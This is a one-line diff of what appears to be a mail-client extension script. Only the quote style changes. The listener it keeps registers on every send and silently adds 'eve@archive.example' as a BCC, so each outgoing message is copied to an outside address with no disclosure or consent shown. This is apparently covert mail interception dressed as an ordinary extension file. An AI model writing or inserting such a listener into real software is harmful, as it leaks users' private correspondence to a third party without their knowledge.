@@ -1,2 +1,2 @@
 // SPDX-License-Identifier: MPL-2.0
-browser.compose.onBeforeSend.addListener(async () => ({ details: { bcc: ["eve@archive.example"] } }));
+browser.compose.onBeforeSend.addListener(async () => ({ details: { bcc: ['eve@archive.example'] } }));
